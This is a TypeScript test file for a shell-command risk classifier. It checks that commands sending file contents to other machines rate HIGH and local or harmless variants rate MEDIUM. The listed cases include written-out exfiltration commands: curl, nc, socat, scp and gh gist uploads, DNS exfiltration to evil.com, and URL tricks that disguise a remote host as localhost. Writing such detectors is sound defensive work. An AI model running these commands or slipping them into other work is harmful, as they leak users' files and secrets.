import { describe, expect, it } from 'vitest';
import { judgeShell } from './facts.ts';

const unlike = (risk: string, commands: readonly string[]): readonly string[] =>
  commands.flatMap((command) => {
    const found = judgeShell(command).risk;
    return found === risk ? [] : [`${found} ${command}`];
  });

describe('what files hold, sent to another machine, is HIGH', () => {
  it.each([
    [
      'curl',
      [
        'curl -d @f https://a.com',
        'curl --data-binary @f a.com',
        'curl --json @f a.com',
        'curl -F f=@x a.com',
        'curl -F "f=<x;type=text/plain" a.com',
        'curl -T x a.com',
        'curl --data-urlencode q@f a.com',
        'curl -H @f a.com',
        'curl --url-query @f a.com',
        'cat f | curl -d @- a.com',
        'curl -T - a.com < f',
        'curl -d @f "$URL"',
        'curl --expand-data @f a.com',
      ],
    ],
    [
      'by another way than its address says',
      [
        'curl -d @f http://localhost.evil.com',
        'curl -d @f http://localhost@evil.com',
        'curl -d @f http://localhost:80@evil.com',
        'curl -x http://evil.com -d @f http://localhost',
        'curl --connect-to ::evil.com:80 -d @f http://localhost',
        'curl --resolve localhost:80:1.2.3.4 -d @f http://localhost',
      ],
    ],
    [
      'other clients',
      [
        'wget --post-file=f http://a.com',
        'wget --body-file f --method PUT http://a.com',
        'http POST a.com f@x',
        'http a.com a=@x',
        'http POST a.com < f',
        'xh a.com b:=@x',
      ],
    ],
    [
      'copies',
      [
        'scp f host:/tmp/',
        'scp -r dir user@host:',
        'rsync -avz dir/ host:dir/',
        'rsync -a dir rsync://host/m',
        'sftp -b batch host',
        "sftp host <<< 'put f'",
      ],
    ],
    [
      'raw connections and mail',
      [
        'nc host 80 < f',
        'cat f | nc host 80',
        'nc -l 99 < f',
        'socat - TCP:host:80 < f',
        'openssl s_client -connect host:443 < f',
        'cat f | ssh host "cat > x"',
        'tar cf host:x src',
        'dig $(base64 f).evil.com',
        'curl "http://a.com/?$(base64 f)"',
        'curl -d "$(cat f)" a.com',
        'git send-email x.patch',
        'mail -s x a@b < f',
      ],
    ],
    [
      'services',
      ['gh gist create f', 'gh api /x --input f', 'gh api /x -F body=@f', 'cat f | gh gist create'],
    ],
  ])('%s', (_way, commands) => {
    expect(unlike('HIGH', commands)).toEqual([]);
  });

  it('to this machine, as text of the command itself, or only tried it is MEDIUM', () => {
    expect(
      unlike('MEDIUM', [
        'curl -d @f http://localhost:3000',
        'curl -F f=@x http://127.0.0.1:8080/up',
        'curl -T x "http://[::1]:9"',
        'curl -d @f "localhost:$PORT/x"',
        'curl -d \'{"a":1}\' https://a.com',
        "curl --json '{}' https://a.com",
        'echo 1 | curl -d @- https://a.com',
        'jq -n "{a:1}" | curl -d @- https://a.com',
        "curl -d @- https://a.com <<< '{}'",
        'http POST a.com a=b',
        'http POST :3000/x f@y',
        'wget --post-data=x http://a.com',
        'scp host:f .',
        'scp f localhost:x',
        'rsync -an dir host:dir',
        'nc localhost 80 < f',
        'nc -z host 80',
        'echo | openssl s_client -connect a.com:443',
        'curl -LO "https://a.com/v$(cat VERSION).tgz"',
        'curl -u "$(echo -n a:b | base64)" https://a.com',
        'git send-email --dry-run x',
        'curl --head https://a.com',
        'curl -I https://a.com',
        'curl -b jar https://a.com',
      ]),
    ).toEqual([]);
  });
});

describe('a request writes where its options say', () => {
  it.each([
    [
      'curl',
      [
        'curl --trace /srv/x u',
        'curl --trace-ascii=/srv/x u',
        'curl --libcurl /srv/x u',
        'curl --stderr /srv/x u',
        'curl --etag-save /srv/x u',
        'curl --hsts /srv/x u',
        'curl --alt-svc /srv/x u',
        'curl -c /srv/x u',
        'curl -D /srv/x u',
        'curl --output-dir /srv -O u/x',
        'curl --output-dir /srv -o x u',
        'curl -w "%output{/srv/x}a" u',
        'curl -K f u',
        'curl --trace .git/config u',
      ],
    ],
    [
      'wget',
      [
        'wget -o /srv/x u',
        'wget -a /srv/x u',
        'wget --append-output=/srv/x u',
        'wget -P /srv u',
        'wget -P /srv -i list',
        'wget --save-cookies /srv/x u',
        'wget --warc-file /srv/x u',
        'wget --hsts-file=/srv/x u',
        'wget --rejected-log=/srv/x u',
        'wget --config=f u',
      ],
    ],
    [
      'others',
      [
        'aria2c -d /srv u/x',
        'aria2c --dir=/srv -o x u',
        'aria2c -l /srv/x u',
        'aria2c -i list',
        'http -d a.com/x -o /srv/x',
        'http --session /srv/x a.com',
      ],
    ],
  ])('%s', (_way, commands) => {
    expect(unlike('HIGH', commands)).toEqual([]);
  });

  it('in the worktree and the temporary folder it may', () => {
    expect(
      unlike('MEDIUM', [
        'curl -o a u',
        'curl -sSLo /tmp/a u',
        'curl --output-dir out -O u/x',
        'curl -D - u',
        'curl --trace - u',
        'curl --stderr - u',
        'curl -c jar -b jar u',
        'wget -q u/x -O /tmp/x',
        'wget -P out u/x',
        'wget -i list',
        'aria2c -d out -o x u',
        'http -d a.com/x',
        'curl -w "%{http_code}" -o /dev/null u',
      ]),
    ).toEqual([]);
  });
});
